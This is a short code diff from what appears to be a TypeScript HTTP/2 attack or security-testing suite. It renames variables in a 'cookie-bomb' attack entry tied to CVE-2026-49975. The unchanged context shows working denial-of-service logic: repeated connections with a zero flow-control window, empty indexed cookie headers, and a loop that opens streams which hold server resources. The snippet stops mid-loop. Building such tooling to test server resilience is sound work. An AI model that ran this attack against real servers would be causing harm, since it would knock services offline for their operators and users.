@@ -109,11 +109,11 @@ export const http2Headers: AttackGroup = {
     },
     {
       name: "cookie-bomb",
-      title: "Empty cookies by index, on 128 streams whose answers wait for a window (CVE-2026-49975)",
+      title: "Empty cookies by index, on 128 streams whose responses wait for a window (CVE-2026-49975)",
       run: async (target) => {
         let connections = 0;
         while (performance.now() < target.endMs && connections++ < 20) {
-          const options = { takesAnswers: false, settings: [[Setting.initialWindowSize, 0]] as const };
+          const options = { takesResponses: false, settings: [[Setting.initialWindowSize, 0]] as const };
           const http2 = await Http2Wire.connect(target, options).catch(() => undefined);
           await http2?.wire.send(call(http2.takeStreamId(), field("cookie", "", 0x40)));
           for (let stream = 0; stream < 127 && http2 !== undefined && !http2.isClosed; stream++) {
